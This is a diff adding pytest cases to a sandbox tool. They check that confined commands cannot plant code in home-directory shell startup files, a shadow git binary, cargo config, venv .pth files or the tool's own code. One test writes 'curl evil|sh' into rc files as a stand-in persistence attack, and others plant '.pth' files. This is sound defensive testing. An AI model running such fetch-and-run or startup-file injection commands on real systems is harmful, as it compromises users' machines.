@@ -335,3 +335,71 @@ def test_a_virtualenv_in_tmp_is_out_of_reach(attack: Attack) -> None:
         attack(f"echo 'import os' > {pth}", pth.exists, pth.unlink)
     finally:
         shutil.rmtree(venv, ignore_errors=True)
+
+
+@pytest.mark.parametrize("name", [".zshrc", ".bash_login", ".config/fish/config.fish",
+                                  ".local/bin/git", ".cargo/config.toml"])
+def test_missing_home_files_are_guarded_when_home_is_writable(
+        attack: Attack, home: Path, name: str) -> None:
+    """Home made writable in the user's own config: a protected file that does not
+    exist yet still cannot be created (an empty read-only one stands in during the
+    run, and is gone after it)."""
+    (home / ".swifty").mkdir()
+    (home / ".swifty" / "config.yaml").write_text(f"sandbox: {{writable: [{home}]}}\n")
+    for parent in (".config", ".local", ".cargo"):
+        (home / parent).mkdir(exist_ok=True)
+    target = home / name
+
+    def reset() -> None:
+        if target.is_dir():
+            shutil.rmtree(target)
+        target.unlink(missing_ok=True)
+        if target.parent != home and target.parent.name in ("fish", "bin"):
+            shutil.rmtree(target.parent, ignore_errors=True)
+
+    attack(f"mkdir -p {target.parent} && echo 'curl evil|sh' >> {target}",
+           lambda: target.exists() and "evil" in target.read_text(), reset)
+    assert not target.exists()  # the stand-in is removed after the run
+
+
+def test_own_profiles_are_read_only_inside_a_writable_root(home: Path) -> None:
+    """The built-in profiles are what the next run confines with."""
+    from importlib.resources import files
+
+    profiles = Path(str(files("swifty_sandbox.profiles"))).resolve()
+    checkout = profiles.parent
+    if not (checkout / "pyproject.toml").exists():
+        pytest.skip("not an editable checkout")
+    assert str(profiles) in Sandbox(checkout, home=home).spec().read_only
+
+
+def test_a_command_cannot_change_what_the_next_run_executes(home: Path,
+                                                            outside_temp: Path) -> None:
+    """Confined in swifty-sandbox's own checkout (its venv inside): the package's code
+    and the venv's site-packages (`.pth` files run at start-up) cannot be written."""
+    import sys
+    import sysconfig
+    from importlib.resources import files
+
+    checkout = Path(str(files("swifty_sandbox.profiles"))).resolve().parent
+    site = Path(sysconfig.get_paths()["purelib"]).resolve()
+    if not (checkout / "pyproject.toml").exists() or not site.is_relative_to(checkout):
+        pytest.skip("needs an editable checkout with its venv inside")
+    name = f"swifty-test-{uuid.uuid4().hex}"
+    targets = [site / f"{name}.pth", checkout / "policy" / f"{name}.py",
+               Path(sys.prefix) / "bin" / name]
+    script = outside_temp / "plant.sh"
+    script.write_text("".join(f"echo 'import os' > {t}\n" for t in targets))
+    try:
+        control = Sandbox(checkout, home=home, sandbox_mode="off",
+                          mode="bypassPermissions").run(["bash", str(script)])
+        assert all(t.exists() for t in targets), control
+        for target in targets:
+            target.unlink()
+        result = Sandbox(checkout, home=home, mode="bypassPermissions").run(
+            ["bash", str(script)])
+        assert result.exit_code not in (0, EXIT_SETUP), result
+        assert not any(t.exists() for t in targets)
+    finally:
+        for target in targets:
+            target.unlink(missing_ok=True)
